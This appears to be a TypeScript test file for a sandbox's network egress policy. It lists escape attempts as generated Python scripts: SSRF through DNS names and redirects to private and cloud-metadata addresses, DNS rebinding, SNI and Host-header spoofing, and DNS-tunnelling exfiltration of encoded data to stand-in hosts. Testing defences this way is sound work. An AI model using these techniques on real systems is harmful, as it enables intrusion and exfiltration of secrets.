import { addresses } from "../world/addresses.ts";
import { type Attempt, attempt, get, HOST_PORT } from "./attempt.ts";

const redirect = (to: string): string =>
  [
    "import urllib.request",
    attempt(`urllib.request.urlopen("http://site.example/redirect?to=${encodeURIComponent(to)}", timeout=10).read()`),
  ].join("\n");

/** A DNS query as bytes, sent to any server, over UDP or TCP. */
const query = (
  name: string,
  type: number,
  { tcp = false, server = addresses.dns as string, port = 53 } = {},
): string => `
labels = b"".join(bytes([len(label)]) + label for label in ${JSON.stringify(name)}.encode().split(b"."))
message = struct.pack("!6H", 4242, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!HH", ${type}, 1)
with socket.socket(socket.AF_INET, socket.${tcp ? "SOCK_STREAM" : "SOCK_DGRAM"}) as asker:
    asker.settimeout(2)
    try:
        asker.connect(("${server}", ${port}))
        asker.sendall(${tcp ? 'struct.pack("!H", len(message)) + message' : "message"})
        answer = asker.recv(65536)${tcp ? "[2:]" : ""}
        print("answers", struct.unpack("!H", answer[6:8])[0])
    except OSError as error:
        print("failed:", error)
`;

/** Attempts that use names, DNS, redirects, and the names inside of TLS and HTTP. */
export const nameAttempts: readonly Attempt[] = [
  { name: "a name with a private address", script: get(["private.example"]) },
  { name: "a name with the metadata address", script: get(["metadata.example"]) },
  { name: "a name with a loopback address", script: get(["loopback.example", HOST_PORT]) },
  { name: "a name with the address 0.0.0.0", script: get(["zero.example", HOST_PORT]) },
  { name: "a name with the broadcast address", script: get(["broadcast.example"]) },
  { name: "a name with an IPv4-mapped private address", script: get(["mapped.example"]) },
  { name: "an alias (CNAME) of a private name", script: get(["alias-to-private.example"]) },
  { name: "an alias (CNAME) of the metadata address", script: get(["alias-to-metadata.example"]) },
  {
    name: "a name with a private and a public address",
    script: [1, 2, 3].map(() => get(["mixed.example"])).join("\n"),
    escaped: /reached 10\./,
  },
  {
    name: "a rebinding name, whose second answer is private",
    script: [1, 2, 3, 4, 5].map(() => get(["a.rebinding.example"])).join("\n"),
    escaped: /reached 10\./,
  },
  {
    name: "a rebinding name that was resolved before it changed",
    script: [
      attempt('net.resolve("b.rebinding.example")'),
      "address = socket.gethostbyname('b.rebinding.example')",
      ...[1, 2, 3].map(() => attempt('net.get(address, 80, "b.rebinding.example")')),
    ].join("\n"),
    escaped: /reached 10\./,
  },
  { name: "a redirect to a private address", script: redirect(`http://${addresses.private10}/`) },
  { name: "a redirect to the metadata address", script: redirect(`http://${addresses.metadata}/latest/meta-data/`) },
  { name: "a redirect to a name with a private address", script: redirect("http://private.example/") },
  { name: "a redirect to the host's loopback", script: redirect(`http://127.0.0.1:${HOST_PORT}/`) },
  { name: "a name that no rule allows", policy: "rules", script: get(["other.example"]) },
  {
    name: "a port that no rule allows",
    policy: "rules",
    script: attempt('"reached " + net.echo("site.example", 7, "x")'),
  },
  { name: "an allowed site by its address", policy: "rules", script: get([addresses.site]) },
  {
    name: "an allowed site by its address, with its name in the request",
    policy: "rules",
    script: attempt(`net.get("${addresses.site}", 80, "site.example")`),
  },
  {
    name: "another name in TLS (SNI) than the one that was dialled",
    policy: "rules",
    script: attempt('net.get_tls("site.example", 443, "other.example", "other.example")'),
  },
  {
    name: "TLS without a server name (SNI)",
    policy: "rules",
    script: attempt('net.get_tls("site.example", 443, None, "other.example")'),
  },
  {
    name: "another name in the Host header than the one that was dialled",
    policy: "rules",
    script: attempt('net.get("site.example", 80, "other.example")'),
  },
  {
    name: "another name in the Host header, in pieces",
    policy: "rules",
    script: `
import time
with net.connect("site.example", 80) as connection:
    for byte in b"GET / HTTP/1.1\\r\\nHost: other.example\\r\\nConnection: close\\r\\n\\r\\n":
        try: connection.sendall(bytes([byte]))
        except OSError as error: print("failed:", error); break
    try: print(net.read_all(connection))
    except OSError as error: print("failed:", error)`,
  },
  {
    name: "a name that only begins or ends like an allowed one",
    policy: "rules",
    script: get(["site.example.other.example"], ["evilsite.example"], ["a.site.example"]),
  },
  {
    name: "a stand-in address that another name got",
    policy: "rules",
    script: ["address = socket.gethostbyname('site.example')", attempt('net.get(address, 80, "other.example")')].join(
      "\n",
    ),
  },
  {
    name: "data in the names of DNS queries that no rule allows",
    policy: "rules",
    script: [query("c2VjcmV0.denied.site.example", 1), query("c2VjcmV0.tunnel.example", 1)].join(""),
    escaped: /answers [1-9]/,
  },
  {
    name: "data in DNS queries over TCP",
    policy: "rules",
    script: query("over-tcp.tunnel.example", 1, { tcp: true }),
    escaped: /answers [1-9]/,
  },
  {
    name: "data in DNS queries to a server of its choice",
    policy: "rules",
    script: query("chosen.tunnel.example", 1, { server: "203.0.113.10" }),
    escaped: /answers [1-9]/,
  },
  {
    name: "data in DNS queries straight to the agent's port",
    policy: "rules",
    script: query("direct.tunnel.example", 1, { server: "127.0.0.1", port: 15_053 }),
    escaped: /answers [1-9]/,
  },
  {
    name: "data in TXT, NULL and MX queries of any name",
    script: [16, 10, 15].map((type) => query("typed.tunnel.example", type)).join(""),
    escaped: /answers [1-9]/,
  },
  {
    name: "DNS over TLS",
    policy: "rules",
    script: attempt(`"reached " + repr(net.connect("${addresses.dns}", 853).recv(1))`),
  },
];
